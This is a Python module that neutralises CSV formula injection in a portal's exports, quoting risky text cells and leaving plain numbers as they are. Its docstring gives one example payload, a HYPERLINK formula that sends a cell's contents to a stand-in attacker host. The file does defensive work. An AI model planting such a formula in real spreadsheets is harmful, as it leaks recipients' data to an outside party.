"""CSV cells that a spreadsheet opens as the text they are: every CSV the portal writes formats its cells here.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, carriage return, line feed or NUL) is a formula to
Excel, LibreOffice and Google Sheets: `=HYPERLINK("https://evil.example/?"&A1,"invoice")` from a pod annotation
would run in finance's spreadsheet. As OWASP's "CSV Injection" page and ASVS 5.0 requirement 1.2.10 say, such a
text cell gets a leading single quote, which spreadsheets read as "this is text" (the full-width forms of those
characters too: some locales' spreadsheets take them as formulas). Numbers are never touched: Decimal, int and
float values, and text that is exactly a plain number ("-12.50"), are written as they are, so a negative amount
stays a number. Quoting of separators and quotes is the csv module's (RFC 4180).
"""
from __future__ import annotations

import re
from datetime import date, datetime
from decimal import Decimal

FORMULA_STARTS = frozenset("=+-@\t\r\n\x00＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def csv_cell(value) -> str:
    """The text of one CSV cell: "" for None, decimals in positional notation, dates in ISO 8601, and text that
    a spreadsheet would take for a formula neutralised."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, (int, float)):  # bool included: "True"/"False" start with no formula character
        return str(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    if text and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
